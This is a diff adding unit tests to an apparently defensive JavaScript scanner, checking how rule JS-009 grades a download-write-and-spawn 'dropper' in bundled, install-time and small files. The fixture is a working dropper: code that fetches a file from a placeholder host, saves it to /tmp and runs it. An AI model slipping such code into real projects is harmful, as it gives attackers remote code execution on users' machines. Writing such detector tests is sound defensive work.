@@ -168,3 +168,21 @@ describe('npm publish through a local exec wrapper', () => {
     expect(f?.severity).toBe('high');
   });
 });
+
+describe('JS-009 in bundles', () => {
+  const dropper = `const http = require('http'), fs = require('fs'), cp = require('child_process');
+    http.get('http://192.0.2.1/p', r => { r.pipe(fs.createWriteStream('/tmp/p')); cp.spawn('/tmp/p'); });`;
+  const padding = `\n/* ${'bundled code '.repeat(20_000)} */\n`;
+  it('a download, a write and a process in a bundle-sized imported file weigh medium', async () => {
+    const f = (await jsFindings({ 'index.js': dropper + padding })).filter((x) => x.ruleId === 'JS-009');
+    expect(f[0]?.severity).toBe('medium');
+  });
+  it('the same file keeps high when it runs at install, and a small imported module keeps high', async () => {
+    const install = (await jsFindings({ 'install.js': dropper + padding }, INSTALL())).filter(
+      (x) => x.ruleId === 'JS-009',
+    );
+    expect(install[0]?.severity).toBe('high');
+    const small = (await jsFindings({ 'index.js': dropper })).filter((x) => x.ruleId === 'JS-009');
+    expect(small[0]?.severity).toBe('high');
+  });
+});
